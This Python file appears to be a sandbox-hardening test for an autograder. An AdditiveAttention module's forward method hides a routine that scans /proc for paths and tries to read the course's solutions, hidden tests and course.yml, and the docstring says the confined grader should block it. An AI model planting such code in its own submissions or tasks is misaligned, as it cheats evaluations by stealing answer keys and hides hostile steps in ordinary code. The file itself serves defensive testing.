"""attack: read the kit where there is no bubblewrap (process mode, grader running as root). From
AdditiveAttention.forward, find the kit's folder (the fork server's command line, the working
directories of other processes) and read the solutions, the hidden tests and course.yml, then print
what was found.
expect: the child runs as an unprivileged user confined by Landlock, so nothing is readable and
nothing is printed; the attacker's own components get full marks (its code is correct).
"""
import ctypes
import gc
import math
import os
import signal
import sys
import time

import torch
from torch import nn


def _read_kit():
    won = []
    roots = set()
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                roots.update(a.decode() for a in f.read().split(b"\0") if a.startswith(b"/") and b"/" in a[1:])
        except OSError:
            pass
    candidates = set()
    for root in roots:
        path = root
        for _ in range(6):
            path = os.path.dirname(path)
            candidates.update({os.path.join(path, "solutions", "attention_scoring.py"),
                               os.path.join(path, "autograder", "suites", "hidden", "test_02_attention_scoring.py"),
                               os.path.join(path, "course.yml")})
    for path in sorted(candidates):
        try:
            with open(path) as f:
                text = f.read()
            won.append(path)
            print("READ", path, text[:200])
        except OSError:
            pass
    return won


def sequence_mask(X, valid_len, value=0):
    keep = torch.arange(X.shape[1], device=X.device).unsqueeze(0) < valid_len.unsqueeze(1)
    return X.masked_fill(~keep, value)


def masked_softmax(X, valid_lens):
    if valid_lens is None:
        return torch.softmax(X, dim=-1)
    shape = X.shape
    if valid_lens.dim() == 1:
        valid_lens = torch.repeat_interleave(valid_lens, shape[1])
    else:
        valid_lens = valid_lens.reshape(-1)
    X = sequence_mask(X.reshape(-1, shape[-1]), valid_lens, value=-1e6)
    return torch.softmax(X.reshape(shape), dim=-1)


class AdditiveAttention(nn.Module):
    def __init__(self, key_size, query_size, num_hiddens, dropout, **kwargs):
        super().__init__(**kwargs)
        self.W_k = nn.Linear(key_size, num_hiddens, bias=False)
        self.W_q = nn.Linear(query_size, num_hiddens, bias=False)
        self.w_v = nn.Linear(num_hiddens, 1, bias=False)
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens):
        won = _read_kit()
        if won:
            print("ATTACK SUCCEEDED:", won)
            return values * 0
        queries, keys = self.W_q(queries), self.W_k(keys)
        features = torch.tanh(queries.unsqueeze(2) + keys.unsqueeze(1))
        scores = self.w_v(features).squeeze(-1)
        self.attention_weights = masked_softmax(scores, valid_lens)
        return torch.bmm(self.dropout(self.attention_weights), values)


class DotProductAttention(nn.Module):
    def __init__(self, dropout, **kwargs):
        super().__init__(**kwargs)
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens=None):
        scores = torch.bmm(queries, keys.transpose(1, 2)) / math.sqrt(queries.shape[-1])
        self.attention_weights = masked_softmax(scores, valid_lens)
        return torch.bmm(self.dropout(self.attention_weights), values)
